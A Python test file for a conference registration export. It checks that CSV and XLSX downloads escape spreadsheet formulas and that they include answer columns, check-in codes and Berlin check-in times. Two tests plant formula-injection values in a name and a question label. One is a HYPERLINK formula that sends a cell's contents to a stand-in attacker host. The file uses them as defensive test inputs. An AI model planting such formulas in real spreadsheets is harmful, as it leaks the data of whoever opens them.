import csv
import io
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from conference.database import utcnow
from conference.registration import services
from conference.registration.models import QuestionKind
from tests.support import applicant, check_in, log_in


def test_registrations_export_with_answers_as_columns_and_no_formulas(client, make_event, make_user, make_question):
    event = make_event()
    diet = make_question(event, label="Essen", kind=QuestionKind.SINGLE_CHOICE, options=["vegan", "vegetarisch"])
    services.register(
        event.id, applicant(first_name="Ayşe", last_name="Yılmaz", answers={diet.id: "vegan"}), utcnow(), by=None
    )
    services.register(event.id, applicant(first_name="Eve", last_name="=HYPERLINK(\"http://evil\")"), utcnow(), by=None)
    log_in(client, make_user(events=[event]))
    base = f"/manage/events/{event.id}/registrations/export"

    response = client.get(base + ".csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:2] == ["Nachname", "Vorname"] and table[0][-1] == "Essen"
    assert table[1][-1] == "" and table[2][:2] == ["Yılmaz", "Ayşe"] and table[2][-1] == "vegan"
    assert table[1][0] == "'=HYPERLINK(\"http://evil\")"

    sheet = load_workbook(io.BytesIO(client.get(base + ".xlsx").data)).active
    assert [cell.value for cell in sheet[1]][-1] == "Essen"
    assert sheet["A2"].value.startswith("'=") and sheet["A3"].value == "Yılmaz"


def test_a_question_label_cannot_plant_a_formula_in_the_header_row(client, make_event, make_user, make_question):
    """A co-organiser labels a question like a formula: the header cell stays text in both files."""
    event = make_event()
    make_question(event, label='=HYPERLINK("http://evil.example/?x="&A2,"Klick")')
    make_question(event, label="+49 Telefon")
    log_in(client, make_user(events=[event]))
    base = f"/manage/events/{event.id}/registrations/export"

    header = next(csv.reader(io.StringIO(client.get(base + ".csv").data.decode("utf-8-sig")), delimiter=";"))
    assert header[-2:] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klick\")", "'+49 Telefon"]

    sheet = load_workbook(io.BytesIO(client.get(base + ".xlsx").data)).active
    assert [cell.data_type for cell in sheet[1]] == ["s"] * sheet.max_column  # no formula anywhere in the header
    assert sheet.cell(1, sheet.max_column - 1).value.startswith("'=HYPERLINK")


def test_both_exports_carry_each_persons_check_in_code_and_their_check_in_time_in_berlin(client, make_event, make_user):
    event = make_event()
    present = services.register(event.id, applicant(last_name="Anwesend"), utcnow(), by=None).registration
    expected = services.register(event.id, applicant(last_name="Erwartet"), utcnow(), by=None).registration
    check_in(present)  # at the event's start
    log_in(client, make_user(events=[event]))
    base = f"/manage/events/{event.id}/registrations/export"
    berlin = present.checked_in_at.astimezone(ZoneInfo("Europe/Berlin")).strftime("%d.%m.%y, %H:%M")

    sheet = load_workbook(io.BytesIO(client.get(base + ".xlsx").data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    code, time = rows[0].index("Check-in-Code"), rows[0].index("Eingecheckt")
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Anwesend"][code] == present.check_in_code and by_name["Anwesend"][time] == berlin
    assert by_name["Erwartet"][code] == expected.check_in_code and by_name["Erwartet"][time] is None

    table = list(csv.reader(io.StringIO(client.get(base + ".csv").data.decode("utf-8-sig")), delimiter=";"))
    assert [table[1][code], table[1][time]] == [present.check_in_code, berlin]
